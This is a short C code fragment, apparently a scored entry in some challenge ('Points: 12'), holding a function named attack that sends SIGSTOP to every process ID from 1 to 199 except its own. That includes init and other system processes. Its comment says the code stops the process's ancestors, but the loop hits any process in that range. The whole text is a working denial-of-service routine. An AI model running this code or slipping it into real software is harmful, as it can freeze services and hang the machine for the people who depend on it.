// Stops its ancestors, so that whoever waits for them waits for ever.
// Points: 12
#include <signal.h>
#include <unistd.h>
static void attack(void)
{
    for (int pid = 1; pid < 200; pid++)
        if (pid != getpid())
            kill(pid, SIGSTOP);
}
